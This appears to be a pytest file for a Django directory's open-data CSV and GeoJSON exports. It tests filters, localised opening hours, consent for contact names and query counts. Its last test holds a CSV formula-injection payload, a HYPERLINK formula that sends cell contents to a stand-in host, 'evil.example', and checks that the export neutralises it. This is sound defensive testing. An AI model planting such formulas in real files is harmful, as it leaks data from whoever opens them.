"""The directory's live CSV and GeoJSON (/open-data/actors.csv, .geojson): the directory's filters,
the columns of the actor's spec, opening hours in the page's language, and a fixed number of queries."""

import csv
import io
import json

import pytest
from django.urls import reverse
from django.utils import translation

from directory.models import Actor
from directory.tests.factories import ActorFactory, PlaceFactory
from maillage.testing import assert_queries_do_not_grow
from opendata import exports
from territory.models import Commune

pytestmark = pytest.mark.django_db

FR = "Lundi–vendredi 9 h–17 h"
NL = "Maandag–vrijdag 9–17 u"


@pytest.fixture
def schaerbeek(territory):
    return Commune.objects.get(slug="schaerbeek")


def actor_in(commune, **kwargs):
    return ActorFactory(commune=commune, places=[PlaceFactory(commune=commune, lat=50.867, lon=4.38)], **kwargs)


def url(name, lang="fr"):
    with translation.override(lang):
        return reverse(f"opendata:{name}")


def test_csv_and_geojson_exports_follow_the_filters(client, schaerbeek):
    actor_in(schaerbeek, name_fr="Dans Schaerbeek", company_number="0203071973")
    actor_in(Commune.objects.get(slug="ixelles"), name_fr="Ailleurs")
    csv_text = client.get(url("actors_csv"), {"commune": "schaerbeek"}).content.decode()
    assert "Dans Schaerbeek" in csv_text and "Ailleurs" not in csv_text and "0203.071.973" in csv_text
    geojson = json.loads(client.get(url("actors_geojson"), {"commune": "schaerbeek"}).content)
    assert [f["properties"]["name"] for f in geojson["features"]] == ["Dans Schaerbeek"]
    assert geojson["features"][0]["geometry"] == {"type": "Point", "coordinates": [4.38, 50.867]}


def test_csv_has_an_opening_hours_column_in_the_page_language(client, schaerbeek):
    actor_in(schaerbeek, name_fr="Avec horaires", opening_hours_fr=FR, opening_hours_nl=NL)
    actor_in(schaerbeek, name_fr="Sans horaires")
    actor_in(schaerbeek, name_fr="Seulement en néerlandais", opening_hours_nl=NL)
    for lang, expected in (("fr", FR), ("nl", NL)):
        text = client.get(url("actors_csv", lang), {"commune": "schaerbeek"}).content.decode()
        rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(text))}
        by_name = {Actor.objects.get(slug=slug).name_fr: row for slug, row in rows.items()}
        assert by_name["Avec horaires"]["opening_hours"] == expected
        assert by_name["Sans horaires"]["opening_hours"] == ""
        assert by_name["Seulement en néerlandais"]["opening_hours"] == NL  # another language rather than none
    header = text.splitlines()[0].split(",")
    assert header == exports.actor_columns()
    assert header.index("opening_hours") == header.index("phone") + 1


def test_a_contact_person_only_with_consent(client, schaerbeek):
    actor_in(schaerbeek, name_fr="Discret", contact_name="Secret Person", contact_consent=False)
    actor_in(schaerbeek, name_fr="Ouvert", contact_name="Anne Martin", contact_consent=True)
    text = client.get(url("actors_csv")).content.decode()
    assert "Anne Martin" in text and "Secret Person" not in text


def test_the_csv_makes_the_same_number_of_queries_for_1_and_3_actors(client, schaerbeek):
    queries = assert_queries_do_not_grow(client, url("actors_csv"), lambda: actor_in(schaerbeek))
    assert queries <= 8, queries  # vocabularies, actors, three links, places (2), communes


def test_a_cell_a_spreadsheet_would_run_is_made_inert(client, schaerbeek):
    actor_in(schaerbeek, name_fr='=HYPERLINK("http://evil.example/?"&A1)', phone="+32 2 555 12 34")
    rows = list(csv.reader(io.StringIO(client.get(url("actors_csv")).content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + '=HYPERLINK("http://evil.example/?"&A1)' in cells and "'+32 2 555 12 34" in cells
